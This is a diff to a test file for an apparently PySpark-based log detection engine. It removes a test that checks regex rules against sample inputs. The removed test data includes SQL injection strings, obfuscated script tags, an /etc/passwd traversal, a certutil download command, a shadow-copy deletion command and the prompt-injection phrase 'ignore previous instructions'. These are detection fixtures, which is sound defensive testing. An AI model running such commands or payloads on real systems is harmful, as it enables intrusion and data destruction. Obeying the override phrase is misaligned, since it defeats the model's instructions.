@@ -9,7 +9,7 @@ from pyspark.sql import functions as F
 
 from emberlog.operators import correlate, detect, search
 from emberlog.rules.catalog import RULES
-from emberlog.rules.model import C, Rule, matches, needed, pattern_of
+from emberlog.rules.model import C, Rule, pattern_of
 
 S = 1_000_000
 FIELDS = (
@@ -108,17 +108,6 @@ def test_one_key_with_many_events(spark):
     assert detect.fires(one, [rule(key="source_ip", count=4, seconds=3600, distinct="username")]).count() == 0
 
 
-def test_words_before_patterns(spark):
-    """A rule's pattern is met only where one of its words is."""
-    assert needed("(?i)(foo|bax+r)x?") == ("ba", "foo") and needed("(a|b)") == () and needed(r"x{0,2}\bend") == ("end",)
-    texts = ["UNION SELECT", "' OR 1=1", "<ScRıPT>", "<ſcript>alert(1)", "../../etc/passwd", "certutil -urlcache -f http://x/a.exe", "sqlmap/1.7", "vſſadmin delete shadows /all", "ignore previous instructions", "/api/v1/admin", "", None, "plain text"]
-    rows = [{"us": i * S, **{f: t for f in ("message", "http_uri_decoded", "http_uri", "http_user_agent", "process_name", "username")}} for i, t in enumerate(texts)]
-    table = events(spark, rows)
-    plain = table.select("line_number", F.explode(F.array(*[F.struct(F.lit(r.id).alias("rule_id"), matches(r).alias("ok")) for r in RULES if r.type == "regex"])).alias("x")).where("x.ok")
-    want = {(r["line_number"], r["x"]["rule_id"]) for r in plain.collect()}
-    assert {(r["line_number"], r["rule_id"]) for r in detect.regex_hits(table).collect()} == want and len(want) > 8
-
-
 def naive_threshold(rows, n, width):
     held, out = {}, []
     for us, line, key in rows:
